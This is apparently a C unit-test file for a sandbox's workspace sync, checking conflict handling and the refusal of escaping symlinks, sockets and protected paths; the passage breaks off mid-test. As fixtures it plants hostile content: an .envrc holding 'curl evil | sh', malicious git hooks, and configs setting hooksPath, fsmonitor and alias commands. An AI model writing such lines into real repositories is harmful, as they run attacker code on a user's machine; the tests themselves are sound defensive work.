/* Workspace sync in mode none (a host scratch directory stands for the
 * sandbox): round trips, incremental copies, deletions, conflicts, refusals
 * and interrupted copies, all through the same packer and extractor the
 * engine path uses. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include "support/check.h"
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <signal.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>

#include <sandman/sandman.h>

#include "workspace/ws.h"
#include "tarbuild.h"

#include "support/xalloc.h"

typedef struct fx {
  char root[256];
  char host[300];
  char scratch[300];
  char manifest[300];
  char outside[300];
  sm_workspace_target target;
} fx;

static void pathf(char *out, size_t len, const char *dir, const char *rel) {
  snprintf(out, len, "%s/%s", dir, rel);
}

static void put(const char *dir, const char *rel, const char *data) { tf_write_at(dir, rel, data); }

static char *get(const char *dir, const char *rel) {
  char p[1024];
  pathf(p, sizeof p, dir, rel);
  return tf_read(p, NULL);
}

static int exists(const char *dir, const char *rel) {
  char p[1024];
  struct stat st;
  pathf(p, sizeof p, dir, rel);
  return lstat(p, &st) == 0;
}

static int setup(void **state) {
  fx *f = xcalloc(1, sizeof *f);
  snprintf(f->root, sizeof f->root, "/tmp/sm-ws-sync-XXXXXX");
  assert_non_null(mkdtemp(f->root));
  pathf(f->host, sizeof f->host, f->root, "host");
  pathf(f->scratch, sizeof f->scratch, f->root, "scratch/workspace");
  pathf(f->manifest, sizeof f->manifest, f->root, "state/manifest");
  pathf(f->outside, sizeof f->outside, f->root, "outside");
  mkdir(f->host, 0755);
  mkdir(f->outside, 0755);
  put(f->outside, "secret", "outside\n");
  f->target.engine = NULL;
  f->target.sandbox_path = f->scratch;
  f->target.uid = 1000;
  f->target.gid = 1000;
  *state = f;
  return 0;
}

static int teardown(void **state) {
  fx *f = *state;
  tf_rm_rf(f->root);
  free(f);
  return 0;
}

static sm_workspace_sync *new_sync(fx *f, const sm_string_list *ex, const sm_workspace_limits *lim) {
  sm_workspace_sync *s = NULL;
  sm_error err = SM_ERROR_INIT;
  if (sm_workspace_sync_new(&s, f->host, f->manifest, ex, lim, &err) != 0) fail_msg("%s", err.message);
  return s;
}

static void sync_in_ok(sm_workspace_sync *s, fx *f) {
  sm_error err = SM_ERROR_INIT;
  if (sm_workspace_sync_in(s, &f->target, &err) != 0) fail_msg("sync in: %s", err.message);
}

typedef struct outres {
  char **changed;
  size_t n_changed;
  char **conflicts;
  size_t n_conflicts;
} outres;

static int sync_out(sm_workspace_sync *s, fx *f, outres *r, sm_error *err) {
  memset(r, 0, sizeof *r);
  return sm_workspace_sync_out(s, &f->target, &r->changed, &r->n_changed, &r->conflicts,
                               &r->n_conflicts, err);
}

static void outres_free(outres *r) {
  sm_workspace_free_list(r->changed, r->n_changed);
  sm_workspace_free_list(r->conflicts, r->n_conflicts);
}

static char *joined(char **v, size_t n) {
  common_buf b;
  common_buf_init(&b, 1 << 20);
  common_buf_append(&b, "", 0);
  for (size_t i = 0; i < n; i++) common_buf_printf(&b, "%s%s", i ? "," : "", v[i]);
  return common_buf_steal(&b, NULL);
}

static void make_tree(fx *f) {
  char p[1024];
  put(f->host, "plain.txt", "hello\n");
  put(f->host, "empty", "");
  put(f->host, "name with spaces and ünïcødé.txt", "utf-8\n");
  pathf(p, sizeof p, f->host, "bin.dat");
  FILE *fp = fopen(p, "wb");
  for (int i = 0; i < 200000; i++) fputc((i * 7919) & 0xff, fp);
  fclose(fp);
  put(f->host, "run.sh", "#!/bin/sh\necho run\n");
  pathf(p, sizeof p, f->host, "run.sh");
  chmod(p, 0755);
  pathf(p, sizeof p, f->host, "emptydir");
  mkdir(p, 0755);
  pathf(p, sizeof p, f->host, "src");
  mkdir(p, 0750);
  put(f->host, "src/main.c", "int main(void){return 0;}\n");
  pathf(p, sizeof p, f->host, "src/link-to-main");
  assert_int_equal(symlink("main.c", p), 0);
  /* The user's own link out of the workspace: copied as a link. */
  pathf(p, sizeof p, f->host, "outlink");
  assert_int_equal(symlink("/etc/hostname", p), 0);
}

static void test_round_trip(void **state) {
  fx *f = *state;
  make_tree(f);
  sm_workspace_sync *s = new_sync(f, NULL, NULL);
  sync_in_ok(s, f);
  char *a = snapshot(f->host), *b = snapshot(f->scratch);
  assert_string_equal(a, b);
  free(a);
  free(b);
  int64_t bi, ei;
  sm_workspace_sync_stats(s, &bi, &ei, NULL, NULL);
  assert_int_equal(ei, 10);
  assert_int_equal(bi, 200000 + 6 + 6 + 19 + 26);

  /* The "tool": modifies, adds, deletes, and makes an executable. */
  put(f->scratch, "plain.txt", "changed by the tool\n");
  put(f->scratch, "new.txt", "new\n");
  put(f->scratch, "src/tool.sh", "#!/bin/sh\n");
  char p[1024];
  pathf(p, sizeof p, f->scratch, "src/tool.sh");
  chmod(p, 0700);
  pathf(p, sizeof p, f->scratch, "empty");
  unlink(p);
  pathf(p, sizeof p, f->scratch, "newdir/deeper");
  char q[1024];
  pathf(q, sizeof q, f->scratch, "newdir");
  mkdir(q, 0755);
  mkdir(p, 0755);
  outres r;
  sm_error err = SM_ERROR_INIT;
  if (sync_out(s, f, &r, &err) != 0) fail_msg("%s", err.message);
  char *ch = joined(r.changed, r.n_changed);
  assert_string_equal(ch, "empty,new.txt,newdir,newdir/deeper,plain.txt,src/tool.sh");
  free(ch);
  assert_int_equal(r.n_conflicts, 0);
  outres_free(&r);
  a = snapshot(f->host);
  b = snapshot(f->scratch);
  assert_string_equal(a, b);
  free(a);
  free(b);
  struct stat st;
  pathf(p, sizeof p, f->host, "src/tool.sh");
  assert_int_equal(lstat(p, &st), 0);
  assert_int_equal(st.st_mode & 0777, 0700);

  /* Nothing changed anywhere: nothing moves either way. */
  sync_in_ok(s, f);
  sm_workspace_sync_stats(s, &bi, &ei, NULL, NULL);
  assert_int_equal(ei, 0);
  assert_int_equal(bi, 0);
  if (sync_out(s, f, &r, &err) != 0) fail_msg("%s", err.message);
  assert_int_equal(r.n_changed, 0);
  outres_free(&r);
  sm_workspace_sync_free(s);
}

static void test_incremental(void **state) {
  fx *f = *state;
  make_tree(f);
  sm_workspace_sync *s = new_sync(f, NULL, NULL);
  sync_in_ok(s, f);
  sm_workspace_sync_free(s);

  /* A new sync object reads the saved manifest: nothing to send. */
  s = new_sync(f, NULL, NULL);
  sync_in_ok(s, f);
  int64_t bi, ei;
  sm_workspace_sync_stats(s, &bi, &ei, NULL, NULL);
  assert_int_equal(ei, 0);

  /* Host side changes: one modified, one added, one deleted. */
  put(f->host, "plain.txt", "host edit\n");
  put(f->host, "src/added.c", "/* added */\n");
  char p[1024];
  pathf(p, sizeof p, f->host, "bin.dat");
  unlink(p);
  sync_in_ok(s, f);
  sm_workspace_sync_stats(s, &bi, &ei, NULL, NULL);
  assert_int_equal(ei, 2);
  assert_int_equal(bi, 10 + 12);
  assert_false(exists(f->scratch, "bin.dat"));
  char *c = get(f->scratch, "plain.txt");
  assert_string_equal(c, "host edit\n");
  free(c);

  /* Touched but not changed on the host: hashed, not sent. */
  pathf(p, sizeof p, f->host, "run.sh");
  struct timespec ts[2] = {{1600000000, 0}, {1600000000, 0}};
  utimensat(AT_FDCWD, p, ts, AT_SYMLINK_NOFOLLOW);
  sync_in_ok(s, f);
  sm_workspace_sync_stats(s, &bi, &ei, NULL, NULL);
  assert_int_equal(ei, 0);

  /* A file replaced by a directory and a directory by a file, on the host. */
  pathf(p, sizeof p, f->host, "plain.txt");
  unlink(p);
  mkdir(p, 0755);
  put(f->host, "plain.txt/inner", "inner\n");
  pathf(p, sizeof p, f->host, "emptydir");
  rmdir(p);
  put(f->host, "emptydir", "now a file\n");
  sync_in_ok(s, f);
  char *a = snapshot(f->host), *b = snapshot(f->scratch);
  assert_string_equal(a, b);
  free(a);
  free(b);

  /* Sandbox side changes come back; host-only changes are not undone. */
  put(f->scratch, "src/main.c", "int main(void){return 1;}\n");
  put(f->host, "hostonly.txt", "host made this during the call\n");
  outres r;
  sm_error err = SM_ERROR_INIT;
  if (sync_out(s, f, &r, &err) != 0) fail_msg("%s", err.message);
  char *ch = joined(r.changed, r.n_changed);
  assert_string_equal(ch, "src/main.c");
  free(ch);
  outres_free(&r);
  assert_true(exists(f->host, "hostonly.txt"));
  /* ... and the next copy in sends the host-only file. */
  sync_in_ok(s, f);
  assert_true(exists(f->scratch, "hostonly.txt"));
  sm_workspace_sync_stats(s, &bi, &ei, NULL, NULL);
  assert_int_equal(ei, 1);
  sm_workspace_sync_free(s);
}

static void test_conflicts(void **state) {
  fx *f = *state;
  put(f->host, "both.txt", "original\n");
  put(f->host, "same.txt", "original\n");
  put(f->host, "deleted-by-tool.txt", "original\n");
  put(f->host, "host-only.txt", "original\n");
  sm_workspace_sync *s = new_sync(f, NULL, NULL);
  sync_in_ok(s, f);
  /* During the call: both sides edit both.txt; both make the same edit to
   * same.txt; the tool deletes a file the host edits; the host edits a
   * file the tool leaves alone. */
  put(f->scratch, "both.txt", "tool version\n");
  put(f->host, "both.txt", "host version!\n");
  put(f->scratch, "same.txt", "same edit\n");
  put(f->host, "same.txt", "same edit\n");
  char p[1024];
  pathf(p, sizeof p, f->scratch, "deleted-by-tool.txt");
  unlink(p);
  put(f->host, "deleted-by-tool.txt", "host edit\n");
  put(f->host, "host-only.txt", "host edit\n");
  outres r;
  sm_error err = SM_ERROR_INIT;
  if (sync_out(s, f, &r, &err) != 0) fail_msg("%s", err.message);
  char *cf = joined(r.conflicts, r.n_conflicts);
  assert_string_equal(cf, "both.txt.sandman-conflict");
  free(cf);
  outres_free(&r);
  char *c = get(f->host, "both.txt");
  assert_string_equal(c, "host version!\n");
  free(c);
  c = get(f->host, "both.txt.sandman-conflict");
  assert_string_equal(c, "tool version\n");
  free(c);
  c = get(f->host, "same.txt");
  assert_string_equal(c, "same edit\n");
  free(c);
  c = get(f->host, "deleted-by-tool.txt");
  assert_string_equal(c, "host edit\n");
  free(c);
  c = get(f->host, "host-only.txt");
  assert_string_equal(c, "host edit\n");
  free(c);
  /* The next copy in brings the host's versions to the sandbox. */
  sync_in_ok(s, f);
  char *a = snapshot(f->host), *b = snapshot(f->scratch);
  assert_string_equal(a, b);
  free(a);
  free(b);
  sm_workspace_sync_free(s);
}

/* The refusals of the last copy out as "path=reason,...". */
static char *refusals(sm_workspace_sync *s) {
  const sm_workspace_refusal *v = NULL;
  size_t n = sm_workspace_sync_refused(s, &v);
  common_buf b;
  common_buf_init(&b, 1 << 20);
  common_buf_append(&b, "", 0);
  for (size_t i = 0; i < n; i++)
    common_buf_printf(&b, "%s%s=%s", i ? "," : "", v[i].path, v[i].reason);
  return common_buf_steal(&b, NULL);
}

static void expect_out(sm_workspace_sync *s, fx *f, const char *changed, const char *refused) {
  outres r;
  sm_error err = SM_ERROR_INIT;
  if (sync_out(s, f, &r, &err) != 0) fail_msg("sync out: %s", err.message);
  char *c = joined(r.changed, r.n_changed), *x = refusals(s);
  if (strcmp(c, changed) != 0) print_message("refused: %s\n", x);
  assert_string_equal(c, changed);
  assert_string_equal(x, refused);
  free(c);
  free(x);
  outres_free(&r);
}

/* A link leaving the workspace, a fifo and a socket: each refused on its
 * own, the rest of the tool's work applied, nothing outside touched; the
 * same refusals are not reported again until the entry changes, and the
 * refused entries stay in the sandbox. */
static void test_refused_per_entry(void **state) {
  fx *f = *state;
  put(f->host, "a.txt", "a\n");
  sm_workspace_sync *s = new_sync(f, NULL, NULL);
  sync_in_ok(s, f);
  put(f->scratch, "a.txt", "tool edit\n");
  put(f->scratch, "new.txt", "new\n");
  char p[1024];
  pathf(p, sizeof p, f->scratch, "escape");
  assert_int_equal(symlink(f->outside, p), 0);
  pathf(p, sizeof p, f->scratch, "up");
  assert_int_equal(symlink("../../outside/secret", p), 0);
  pathf(p, sizeof p, f->scratch, "pipe");
  assert_int_equal(mkfifo(p, 0644), 0);
  int sock = socket(AF_UNIX, SOCK_STREAM, 0);
  struct sockaddr_un sa = {.sun_family = AF_UNIX};
  pathf(sa.sun_path, sizeof sa.sun_path, f->scratch, "sock");
  assert_int_equal(bind(sock, (struct sockaddr *)&sa, sizeof sa), 0);
  char *ob = snapshot(f->outside);
  expect_out(s, f, "a.txt,new.txt",
             "escape=link_absolute,pipe=fifo,sock=socket,up=link_outside");
  char *oa = snapshot(f->outside);
  assert_string_equal(ob, oa);
  free(ob);
  free(oa);
  char *c = get(f->host, "a.txt");
  assert_string_equal(c, "tool edit\n");
  free(c);
  assert_false(exists(f->host, "escape"));
  assert_false(exists(f->host, "pipe"));
  assert_false(exists(f->host, "sock"));
  assert_false(exists(f->host, "up"));
  sm_workspace_sync_free(s);
  /* The next call (a new sync, the saved manifest): the copy in keeps the
   * refused entries in the sandbox, the copy out does not report them again. */
  s = new_sync(f, NULL, NULL);
  sync_in_ok(s, f);
  assert_true(exists(f->scratch, "escape"));
  assert_true(exists(f->scratch, "pipe"));
  expect_out(s, f, "", "");
  /* Changed: reported again. */
  pathf(p, sizeof p, f->scratch, "up");
  unlink(p);
  assert_int_equal(symlink("../../../elsewhere", p), 0);
  expect_out(s, f, "", "up=link_outside");
  close(sock);
  sm_workspace_sync_free(s);
}

static void put_mode(const char *dir, const char *rel, const char *data, mode_t mode) {
  char p[1024];
  pathf(p, sizeof p, dir, rel);
  tf_write_str(p, data);
  chmod(p, mode);
}

static void mkdirs(const char *dir, const char *rel) {
  char p[1024];
  pathf(p, sizeof p, dir, rel);
  for (char *c = p + strlen(dir) + 1; *c; c++)
    if (*c == '/') {
      *c = '\0';
      mkdir(p, 0755);
      *c = '/';
    }
  mkdir(p, 0755);
}

/* Issue 25.12: where the tool's folder meets a host that has no folder
 * there any more (the user edited the file F the tool turned into a folder
 * F/, replaced the folder D by a file, or deleted the folder E), the tool's
 * work is kept beside the host's version as <name>.sandman-conflict/, and
 * listed as a conflict; the next copy in makes both sides agree. */
static void test_folder_conflicts(void **state) {
  fx *f = *state;
  put(f->host, "F", "host v1\n");
  mkdirs(f->host, "D");
  put(f->host, "D/old", "d\n");
  mkdirs(f->host, "E");
  put(f->host, "E/old", "e\n");
  sm_workspace_sync *s = new_sync(f, NULL, NULL);
  sync_in_ok(s, f);
  char p[1024];
  pathf(p, sizeof p, f->scratch, "F");
  unlink(p);
  mkdirs(f->scratch, "F/sub");
  put(f->scratch, "F/x", "tool x\n");
  put(f->scratch, "F/sub/y", "tool y\n");
  put(f->host, "F", "host v2!\n");
  put(f->scratch, "D/new", "tool d\n");
  pathf(p, sizeof p, f->host, "D");
  tf_rm_rf(p);
  put(f->host, "D", "now a file\n");
  put(f->scratch, "E/new", "tool e\n");
  pathf(p, sizeof p, f->host, "E");
  tf_rm_rf(p);
  outres r;
  sm_error err = SM_ERROR_INIT;
  if (sync_out(s, f, &r, &err) != 0) fail_msg("%s", err.message);
  char *cf = joined(r.conflicts, r.n_conflicts), *ch = joined(r.changed, r.n_changed);
  assert_string_equal(cf, "D.sandman-conflict,E.sandman-conflict,F.sandman-conflict");
  assert_string_equal(ch, "D.sandman-conflict,D.sandman-conflict/new,E.sandman-conflict,"
                          "E.sandman-conflict/new,F.sandman-conflict,F.sandman-conflict/sub,"
                          "F.sandman-conflict/sub/y,F.sandman-conflict/x");
  free(cf);
  free(ch);
  outres_free(&r);
  char *c = get(f->host, "F");
  assert_string_equal(c, "host v2!\n");
  free(c);
  c = get(f->host, "F.sandman-conflict/x");
  assert_string_equal(c, "tool x\n");
  free(c);
  c = get(f->host, "F.sandman-conflict/sub/y");
  assert_string_equal(c, "tool y\n");
  free(c);
  c = get(f->host, "D");
  assert_string_equal(c, "now a file\n");
  free(c);
  c = get(f->host, "D.sandman-conflict/new");
  assert_string_equal(c, "tool d\n");
  free(c);
  assert_false(exists(f->host, "E"));
  c = get(f->host, "E.sandman-conflict/new");
  assert_string_equal(c, "tool e\n");
  free(c);
  /* The next copy in brings the host's versions to the sandbox. */
  sync_in_ok(s, f);
  char *a = snapshot(f->host), *b = snapshot(f->scratch);
  assert_string_equal(a, b);
  free(a);
  free(b);
  sm_workspace_sync_free(s);
}

static size_t stage_dirs(const char *dir) {
  DIR *d = opendir(dir);
  size_t n = 0;
  struct dirent *de;
  while (d && (de = readdir(d)) != NULL)
    if (strncmp(de->d_name, WS_STAGE_PREFIX, strlen(WS_STAGE_PREFIX)) == 0) n++;
  if (d) closedir(d);
  return n;
}

/* A stage directory made in a child that then waits (hold) or dies at once. */
static pid_t stage_in_child(const char *host, int hold, int ready[2]) {
  pid_t pid = fork();
  if (pid != 0) return pid;
  prctl(PR_SET_PDEATHSIG, SIGKILL); /* never outlives a failed test */
  int fd = open(host, O_RDONLY | O_DIRECTORY);
  char *path = NULL;
  sm_error err = SM_ERROR_INIT;
  int sfd = workspace_stage_create(fd, host, &path, &err);
  if (sfd < 0) _exit(1);
  if (openat(sfd, "0", O_WRONLY | O_CREAT, 0600) < 0) _exit(1);
  if (write(ready[1], "x", 1) != 1) _exit(1);
  if (hold) pause();
  _exit(0); /* a crash: nothing removed */
}

/* Issue 25.15: a runner killed during a copy out leaves its stage
 * directory in the workspace; the next copy removes it at once (its lock
 * died with it), and never one a live copy holds. */
static void test_stage_left_by_crash(void **state) {
  fx *f = *state;
  put(f->host, "a.txt", "a\n");
  int ready[2];
  assert_int_equal(pipe(ready), 0);
  char c;
  pid_t dead = stage_in_child(f->host, 0, ready);
  assert_int_equal(read(ready[0], &c, 1), 1);
  waitpid(dead, NULL, 0);
  pid_t live = stage_in_child(f->host, 1, ready);
  assert_int_equal(read(ready[0], &c, 1), 1);
  assert_int_equal(stage_dirs(f->host), 2);
  sm_workspace_sync *s = new_sync(f, NULL, NULL);
  sync_in_ok(s, f);
  assert_int_equal(stage_dirs(f->host), 1);
  kill(live, SIGKILL);
  waitpid(live, NULL, 0);
  put(f->host, "a.txt", "b\n");
  sync_in_ok(s, f);
  assert_int_equal(stage_dirs(f->host), 0);
  sm_workspace_sync_free(s);
  close(ready[0]);
  close(ready[1]);
}

/* The racy-file scenario of issue 25.8 in a child with its own mount
 * namespace: the host workspace is a 4 MiB tmpfs holding a 2.5 MiB file
 * written right before the copy in (so compared by content on the way
 * back); the tool changes one byte elsewhere. Exit 0: two copies out
 * succeed; 2: one failed (the message on stderr); 77: no mount allowed. */
static int racy_on_a_small_disk(fx *f) {
  if (unshare(CLONE_NEWNS) != 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0)
    return 77;
  if (mount("tmpfs", f->host, "tmpfs", 0, "size=4m") != 0) return errno == EPERM ? 77 : 3;
  char p[1024];
  pathf(p, sizeof p, f->host, "big.bin");
  FILE *fp = fopen(p, "wb");
  for (int i = 0; i < 2560 * 1024; i++) fputc(i * 31, fp);
  fclose(fp);
  put(f->host, "small.txt", "a");
  sm_workspace_sync *s = new_sync(f, NULL, NULL);
  sync_in_ok(s, f);
  for (int round = 0; round < 2; round++) {
    put(f->scratch, "small.txt", round ? "c" : "b");
    outres r;
    sm_error err = SM_ERROR_INIT;
    if (sync_out(s, f, &r, &err) != 0) {
      fprintf(stderr, "copy out %d: %s\n", round + 1, err.message);
      return 2;
    }
    outres_free(&r);
  }
  char *c = get(f->host, "small.txt");
  int ok = strcmp(c, "c") == 0;
  free(c);
  sm_workspace_sync_free(s);
  umount2(f->host, MNT_DETACH);
  return ok ? 0 : 4;
}

/* Issue 25.8: a nearly full host disk does not wedge the copy out: an
 * unchanged file written right before a sync is compared by its content as
 * it streams by, never staged, so a one-byte change elsewhere applies. */
static void test_racy_file_never_wedges(void **state) {
  fx *f = *state;
  pid_t pid = fork();
  assert_true(pid >= 0);
  if (pid == 0) _exit(racy_on_a_small_disk(f));
  int status = 0;
  waitpid(pid, &status, 0);
  assert_true(WIFEXITED(status));
  if (WEXITSTATUS(status) == 77) skip();
  assert_int_equal(WEXITSTATUS(status), 0);
}

/* The built-in protected paths: a tool that writes a git hook, edits
 * .git/config and .envrc, chmods and deletes protected files, or swaps
 * .git for a file pointing elsewhere changes none of it on the host; each
 * is reported (once), everything else it did applies. */
static void test_protected_paths(void **state) {
  fx *f = *state;
  mkdirs(f->host, ".git/hooks");
  put(f->host, ".git/config", "[core]\n");
  put_mode(f->host, ".git/hooks/pre-push", "#!/bin/sh\n", 0755);
  put(f->host, ".envrc", "export A=1\n");
  mkdirs(f->host, "sub");
  put(f->host, "sub/.envrc", "x\n");
  put(f->host, "src.c", "int x;\n");
  sm_workspace_sync *s = new_sync(f, NULL, NULL);
  sync_in_ok(s, f);
  char git[1024];
  pathf(git, sizeof git, f->host, ".git");
  char *hb = snapshot(git);
  put_mode(f->scratch, ".git/hooks/pre-commit", "#!/bin/sh\nevil\n", 0755);
  put(f->scratch, ".git/config", "[core]\n\thooksPath = /tmp/evil\n");
  put(f->scratch, ".envrc", "curl evil | sh\n");
  char p[1024];
  pathf(p, sizeof p, f->scratch, ".git/hooks/pre-push");
  chmod(p, 0777);
  pathf(p, sizeof p, f->scratch, "sub/.envrc");
  unlink(p);
  mkdirs(f->scratch, ".vscode");
  put(f->scratch, ".vscode/tasks.json", "{}\n");
  mkdirs(f->scratch, "other/.GIT/HOOKS");
  put(f->scratch, "other/.GIT/HOOKS/post-checkout", "evil\n");
  put(f->scratch, "other/.git", "gitdir: ../evil\n");
  put(f->scratch, "src.c", "int y;\n");
  expect_out(s, f, "other,other/.GIT,src.c",
             ".envrc=protected,.git/config=protected,.git/hooks/pre-commit=protected,"
             ".git/hooks/pre-push=protected,.vscode=protected,.vscode/tasks.json=protected,"
             "other/.GIT/HOOKS=protected,other/.GIT/HOOKS/post-checkout=protected,"
             "other/.git=protected,sub/.envrc=protected");
  char *c = get(f->host, "src.c");
  assert_string_equal(c, "int y;\n");
  free(c);
  put(f->scratch, "src.c", "int x;\n");
  /* Nothing of it reached the host, and it is not reported again. */
  expect_out(s, f, "src.c", "");
  char *ha = snapshot(git);
  assert_string_equal(hb, ha);
  free(hb);
  free(ha);
  c = get(f->host, ".envrc");
  assert_string_equal(c, "export A=1\n");
  free(c);
  assert_true(exists(f->host, "sub/.envrc"));
  assert_false(exists(f->host, ".vscode"));
  assert_false(exists(f->host, "other/.git"));
  assert_false(exists(f->host, "other/.GIT/HOOKS"));
  /* An explicitly empty list protects nothing. */
  sm_string_list none;
  memset(&none, 0, sizeof none);
  sm_error err = SM_ERROR_INIT;
  assert_int_equal(sm_workspace_sync_set_protect(s, &none, &err), 0);
  put(f->scratch, ".envrc", "now it lands\n");
  outres r;
  if (sync_out(s, f, &r, &err) != 0) fail_msg("%s", err.message);
  outres_free(&r);
  c = get(f->host, ".envrc");
  assert_string_equal(c, "now it lands\n");
  free(c);
  /* A bad glob is refused with its reason. */
  sm_string_list bad;
  memset(&bad, 0, sizeof bad);
  snprintf(bad.items[bad.n++], SM_NAME_MAX, "a/../b");
  assert_int_equal(sm_workspace_sync_set_protect(s, &bad, &err), SM_EINVAL);
  assert_non_null(strstr(err.message, "a/../b"));
  sm_workspace_sync_free(s);
}

/* Log lines of the copy, kept for the test below. */
static common_buf logged;

static void keep_log(sm_log_level level, const char *rid, const char *msg, void *ud) {
  (void)level;
  (void)rid;
  (void)ud;
  common_buf_printf(&logged, "%s\n", msg);
}

static size_t count(const char *hay, const char *needle) {
  size_t n = 0;
  for (const char *p = hay; (p = strstr(p, needle)) != NULL; p += strlen(needle)) n++;
  return n;
}


static mode_t mode_of(const char *dir, const char *rel) {
  char p[1024];
  struct stat st;
  pathf(p, sizeof p, dir, rel);
  if (lstat(p, &st) != 0) return (mode_t)-1;
  return st.st_mode & 07777;
}

/* A repository: HEAD, objects and refs. */
static void make_repo(const char *dir, const char *rel) {
  char p[1024];
  snprintf(p, sizeof p, "%s/objects", rel);
  mkdirs(dir, p);
  snprintf(p, sizeof p, "%s/refs/heads", rel);
  mkdirs(dir, p);
  snprintf(p, sizeof p, "%s/HEAD", rel);
  put(dir, p, "ref: refs/heads/main\n");
}

/* Issue 25.4: a git directory under any name (what git takes for one:
 * HEAD with objects and refs), one made piece by piece over two calls, a
 * copy of .git with a hook, one the host already has, spellings a
 * case-insensitive host would take, a "gitdir:" file, and config files
 * that name commands: none of it reaches the host, whatever the list of
 * globs says, and the rest of the call applies. */
static void test_git_directories(void **state) {
  fx *f = *state;
  put(f->host, "src.c", "int x;\n");
  make_repo(f->host, "bare.git");
  mkdirs(f->host, "half");
  put(f->host, "half/HEAD", "ref: refs/heads/main\n");
  sm_workspace_sync *s = new_sync(f, NULL, NULL);
  sm_string_list none;
  memset(&none, 0, sizeof none);
  sm_error err = SM_ERROR_INIT;
  /* The rules hold with an empty list of globs too. */
  assert_int_equal(sm_workspace_sync_set_protect(s, &none, &err), 0);
  sync_in_ok(s, f);
  make_repo(f->scratch, "sub");
  put(f->scratch, "sub/config", "[core]\n\tfsmonitor = touch FSMON-RAN\n");
  make_repo(f->scratch, "x");
  mkdirs(f->scratch, "x/hooks");
  put_mode(f->scratch, "x/hooks/pre-commit", "#!/bin/sh\ntouch HOOK-RAN\n", 0755);
  make_repo(f->scratch, "q");
  char a[1024], b[1024];
  pathf(a, sizeof a, f->scratch, "q/HEAD");
  pathf(b, sizeof b, f->scratch, "q/head");
  assert_int_equal(rename(a, b), 0);
  pathf(a, sizeof a, f->scratch, "q/objects");
  pathf(b, sizeof b, f->scratch, "q/OBJECTS.");
  assert_int_equal(rename(a, b), 0);
  mkdirs(f->scratch, "bare.git/hooks");
  put_mode(f->scratch, "bare.git/hooks/post-update", "#!/bin/sh\nevil\n", 0755);
  put(f->scratch, "notes.txt", "gitdir: /tmp/elsewhere\n");
  mkdirs(f->scratch, "y");
  put(f->scratch, "y/config", "[alias]\n\tst = !touch ALIAS-RAN\n");
  mkdirs(f->scratch, "z");
  put(f->scratch, "z/config", "# a plain one\n[user]\n\tname = t\n[core]\n\tbare = false\n");
  pathf(a, sizeof a, f->scratch, "z/config.worktree");
  assert_int_equal(symlink("../notes.txt", a), 0);
  mkdirs(f->scratch, "half/objects");
  mkdirs(f->scratch, "half/refs");
  put(f->scratch, "src.c", "int y;\n");
  expect_out(s, f, "src.c,y,z,z/config",
             "bare.git/hooks=protected,bare.git/hooks/post-update=protected,"
             "half/objects=protected,half/refs=protected,notes.txt=protected,"
             "q=protected,q/OBJECTS.=protected,q/head=protected,q/refs=protected,"
             "q/refs/heads=protected,sub=protected,sub/HEAD=protected,sub/config=protected,"
             "sub/objects=protected,sub/refs=protected,sub/refs/heads=protected,"
             "x=protected,x/HEAD=protected,x/hooks=protected,x/hooks/pre-commit=protected,"
             "x/objects=protected,x/refs=protected,x/refs/heads=protected,"
             "y/config=protected,z/config.worktree=protected");
  assert_false(exists(f->host, "sub"));
  assert_false(exists(f->host, "x"));
  assert_false(exists(f->host, "q"));
  assert_false(exists(f->host, "notes.txt"));
  assert_false(exists(f->host, "y/config"));
  assert_false(exists(f->host, "bare.git/hooks"));
  assert_false(exists(f->host, "half/objects"));
  assert_true(exists(f->host, "z/config"));
  /* The host's repository is kept whole: deleting a part of it is refused too. */
  char p[1024];
  pathf(p, sizeof p, f->scratch, "bare.git/HEAD");
  unlink(p);
  expect_out(s, f, "", "bare.git/HEAD=protected");
  assert_true(exists(f->host, "bare.git/HEAD"));
  sm_workspace_sync_free(s);
}

/* Issue 25.11: a tool's chmod 0777 of .git, .git/objects and .git/refs
 * never reaches the host (refused as protected); a narrower mode does; a
 * folder the tool makes in .git gets no permission its parent lacks. */
static void test_git_modes_never_widen(void **state) {
  fx *f = *state;
  mkdirs(f->host, ".git/objects");
  mkdirs(f->host, ".git/refs");
  char p[1024];
  pathf(p, sizeof p, f->host, ".git/objects");
  chmod(p, 0750);
  sm_workspace_sync *s = new_sync(f, NULL, NULL);
  sync_in_ok(s, f);
  const char *dirs[] = {".git", ".git/objects", ".git/refs"};
  for (size_t i = 0; i < 3; i++) {
    pathf(p, sizeof p, f->scratch, dirs[i]);
    assert_int_equal(chmod(p, 0777), 0);
  }
  mkdirs(f->scratch, ".git/objects/ab");
  pathf(p, sizeof p, f->scratch, ".git/objects/ab");
  chmod(p, 0777);
  put(f->scratch, ".git/objects/ab/cdef", "blob\n");
  expect_out(s, f, ".git/objects/ab,.git/objects/ab/cdef",
             ".git=protected,.git/objects=protected,.git/refs=protected");
  assert_int_equal(mode_of(f->host, ".git"), 0755);
  assert_int_equal(mode_of(f->host, ".git/objects"), 0750);
  assert_int_equal(mode_of(f->host, ".git/refs"), 0755);
  assert_int_equal(mode_of(f->host, ".git/objects/ab"), 0750);
  pathf(p, sizeof p, f->scratch, ".git/refs");
  chmod(p, 0700);
  expect_out(s, f, ".git/refs", "");
  assert_int_equal(mode_of(f->host, ".git/refs"), 0700);
  sm_workspace_sync_free(s);
}

/* A value the call was given in secret (a leased credential) that the tool
 * names files after never reaches the copy's log lines: a conflict and a
 * refused link are logged with it [REDACTED] (mode none's packer drops a
 * setuid bit before the extractor's line; that line is workspace_log_path's too). */
static void test_log_masks_secret_values(void **state) {
  fx *f = *state;
  put(f->host, "c-ghp_leased_value_77.txt", "original\n");
  sm_workspace_sync *s = new_sync(f, NULL, NULL);
  const char *kv[] = {"GH_TOKEN=ghp_leased_value_77", "SHORT=abc"};
  sm_error err = SM_ERROR_INIT;
  assert_int_equal(sm_workspace_sync_set_redact(s, kv, 2, &err), 0);
  sync_in_ok(s, f);
  put(f->scratch, "c-ghp_leased_value_77.txt", "tool version\n");
  put(f->host, "c-ghp_leased_value_77.txt", "host version!\n");
  put(f->scratch, "s-ghp_leased_value_77", "x\n");
  char p[1024];
  pathf(p, sizeof p, f->scratch, "s-ghp_leased_value_77");
  assert_int_equal(chmod(p, 04755), 0);
  pathf(p, sizeof p, f->scratch, "abc-ghp_leased_value_77");
